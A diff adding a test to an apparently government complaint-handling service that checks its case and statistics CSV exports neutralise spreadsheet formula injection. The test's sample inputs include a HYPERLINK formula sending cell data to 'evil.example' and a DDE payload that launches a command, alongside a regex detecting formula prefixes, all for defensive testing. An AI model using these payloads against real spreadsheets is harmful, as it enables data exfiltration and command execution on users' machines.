@@ -101,6 +101,97 @@ describe('statistics over HTTP', () => {
   });
 });
 
+/** RFC 4180 rows (quoted fields, doubled quotes, line breaks inside quotes). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  const endCell = () => {
+    row.push(cell);
+    cell = '';
+  };
+  for (let i = 0; i < text.length; i += 1) {
+    const ch = text[i]!;
+    if (quoted && ch === '"' && text[i + 1] === '"') {
+      cell += '"';
+      i += 1;
+    } else if (ch === '"') {
+      quoted = !quoted;
+    } else if (!quoted && ch === ',') {
+      endCell();
+    } else if (!quoted && ch === '\n') {
+      endCell();
+      rows.push(row);
+      row = [];
+    } else {
+      cell += ch;
+    }
+  }
+  if (cell !== '' || row.length > 0) {
+    endCell();
+    rows.push(row);
+  }
+  return rows;
+}
+
+/** What spreadsheets read as a formula at the start of a cell (OWASP; full-width forms too). */
+const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+
+describe('spreadsheet exports neutralise formulas', () => {
+  it('a subject or category that is a formula comes out as text in every CSV', async () => {
+    const central = await as('setneg', 'central_officer');
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+      '+1+1',
+      "-2+3+cmd|' /C calc'!A0",
+      '@SUM(1+1)',
+      '\uFF1D1+1', // ＝, the full-width equals sign some spreadsheets take for "="
+    ];
+    const ids = new Map<string, string>();
+    for (const subject of hostile) {
+      const created = await http.post('/v1/cases', complaint({ subject }), { token: central });
+      expect(created.status, created.text).toBe(201);
+      ids.set(created.body.id, subject);
+    }
+    // A category set at verification, and a subject that a ';'-separated spreadsheet (the
+    // Indonesian locale's) would split into a second cell starting with "=".
+    const split = await http.post('/v1/cases', complaint({ subject: 'Laporan;=1+1' }), {
+      token: central,
+    });
+    const verified = await http.post(
+      `/v1/cases/${split.body.id}/verification`,
+      { decision: 'accept', type: 'light', category: '=1+2' },
+      { token: central },
+    );
+    expect(verified.status, verified.text).toBe(200);
+
+    const res = await http.get('/v1/exports/cases.csv?from=2026-05-04&to=2026-05-04', {
+      token: central,
+    });
+    expect(res.status, res.text).toBe(200);
+    const [header, ...rows] = parseCsv(res.text);
+    const column = (name: string) => header!.indexOf(name);
+    for (const [id, subject] of ids) {
+      const row = rows.find((r) => r[0] === id)!;
+      expect(row[column('subject')], subject).toBe(`'${subject}`);
+    }
+    const splitRow = rows.find((r) => r[0] === split.body.id)!;
+    expect(splitRow[column('category')]).toBe("'=1+2");
+    expect(splitRow[column('subject')]).toBe('Laporan;=1+1');
+    expect(res.text).toContain('"Laporan;=1+1"'); // quoted: one cell whatever the separator
+
+    const stats = await http.get('/v1/stats/agencies.csv?from=2026-05-01&to=2026-05-31', {
+      token: central,
+    });
+    for (const csv of [res.text, stats.text]) {
+      const cells = parseCsv(csv).flat();
+      expect(cells.length).toBeGreaterThan(12);
+      expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
+    }
+  });
+});
+
 describe('complainant replies and monitoring activities over HTTP', () => {
   it('takes the complainant’s reply through the tracking code, and central’s activities', async () => {
     const central = await as('setneg', 'central_officer');
